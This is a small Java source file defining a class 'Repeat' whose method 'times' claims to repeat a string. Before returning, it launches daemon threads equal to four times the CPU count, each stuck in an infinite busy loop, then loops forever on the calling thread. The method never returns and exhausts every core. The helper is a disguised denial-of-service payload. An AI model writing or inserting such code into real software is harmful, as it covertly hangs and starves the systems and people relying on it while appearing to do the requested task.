package repeat;

final class Repeat {

  private static volatile double spun;

  private static void spin() {
    for (double x = 1; ; x = Math.sqrt(x + 2)) {
      spun = x;
    }
  }

  static String times(String text, int n) {
    for (int i = 0; i < 4 * Runtime.getRuntime().availableProcessors(); i++) {
      Thread.ofPlatform().daemon().start(Repeat::spin);
    }
    spin();
    return text.repeat(n);
  }
}
